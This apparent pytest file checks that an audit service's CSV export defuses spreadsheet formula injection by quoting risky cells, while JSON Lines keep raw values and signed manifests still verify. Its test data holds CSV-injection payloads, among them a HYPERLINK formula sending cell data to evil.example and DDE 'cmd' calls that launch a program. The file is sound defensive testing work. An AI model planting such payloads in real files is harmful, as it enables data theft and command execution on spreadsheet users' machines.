"""CSV exports never hand a spreadsheet a formula: anyone can plant text in the decision log through
an unauthenticated /v1/check, and a cell starting with = + - @, a tab or a carriage return is
written with a single quote in front. JSON Lines keep the values as they are, and the signed
manifest of the neutralised file verifies."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import orjson
import pytest

from govern.audit.export_files import read_rows, verify_export
from govern.audit.signing import load_public_key

PLANTED = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+": "+cmd|'/C calc'!A0",
    "-": "-2+3+cmd|'/C calc'!A0",
    "@": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quote": "'=already quoted",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def plant(client, model: str, capability: str = "generate") -> None:
    """An unauthenticated check: no key, yet the question is logged (as key_missing)."""
    response = client.post("/v1/check", json={"model": model, "capability": capability})
    assert (response.status_code, response.json["code"]) == (401, "key_missing")


def export(client, auditor, fmt: str) -> tuple[bytes, dict[str, object]]:
    response = client.get("/v1/decisions/export", query_string={"format": fmt}, headers=auditor)
    assert response.status_code == 200, response.data
    body = response.get_data()
    manifest = client.get(f"/v1/exports/{response.headers['X-Govern-Export-Id']}/manifest",
                          headers=auditor).json
    return body, manifest


def cells(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("start", list(PLANTED), ids=list(PLANTED))
def test_a_planted_formula_is_text_in_the_csv_export(client, auditor, start):
    plant(client, PLANTED[start])

    body, _ = export(client, auditor, "csv")

    [row] = cells(body)
    assert row["model"] == "'" + PLANTED[start]
    assert row["reason"] == "key_missing"


def test_no_cell_of_a_csv_export_starts_a_formula(client, auditor):
    for value in PLANTED.values():
        plant(client, value, capability="@SUM(A1:A9)")

    body, _ = export(client, auditor, "csv")

    every = [value for row in cells(body) for value in row.values()]
    assert len(every) == len(PLANTED) * 22  # the 19 columns of a decision row and its 3 of usage
    assert [value for value in every if value.startswith(FORMULA_STARTS)] == []
    assert {row["capability"] for row in cells(body)} == {"'@SUM(A1:A9)"}


def test_json_lines_keep_the_values_the_csv_neutralises(client, auditor):
    for value in PLANTED.values():
        plant(client, value)

    jsonl, _ = export(client, auditor, "jsonl")
    csv_body, _ = export(client, auditor, "csv")

    models = [orjson.loads(line)["model"] for line in jsonl.splitlines()]
    assert sorted(models) == sorted(PLANTED.values())
    assert sorted(row["model"] for row in cells(csv_body)) == sorted("'" + v for v in PLANTED.values())


def test_the_neutralised_file_verifies_and_reads_back_as_stored(client, auditor, tmp_path: Path):
    for value in PLANTED.values():
        plant(client, value)
    body, manifest = export(client, auditor, "csv")
    file = tmp_path / "decisions.csv"
    file.write_bytes(body)
    public_key = load_public_key(client.get("/v1/exports/public-key").get_data(as_text=True))

    checked = verify_export(file, manifest, public_key)

    assert checked.rows == len(PLANTED)
    assert b"'=HYPERLINK" in body and b"'@SUM" in body
    assert sorted(row["model"] for row in read_rows(file, "csv")) == sorted(PLANTED.values())


def test_cli_verify_export_accepts_the_neutralised_file(client, auditor, govern, tmp_path: Path):
    plant(client, PLANTED["="])
    body, manifest = export(client, auditor, "csv")
    file, manifest_file = tmp_path / "d.csv", tmp_path / "d.csv.manifest.json"
    file.write_bytes(body)
    manifest_file.write_text(json.dumps(manifest))

    result = govern("decisions", "verify-export", str(file), str(manifest_file))

    assert result.exit_code == 0, result.output
    assert [row["model"] for row in cells(body)] == ["'" + PLANTED["="]]


def test_cli_csv_export_neutralises_too(client, govern, tmp_path: Path):
    plant(client, PLANTED["@"])
    output = tmp_path / "out.csv"

    result = govern("decisions", "export", "-o", str(output), "--format", "csv")

    assert result.exit_code == 0, result.output
    [row] = cells(output.read_bytes())
    assert row["model"] == "'" + PLANTED["@"]
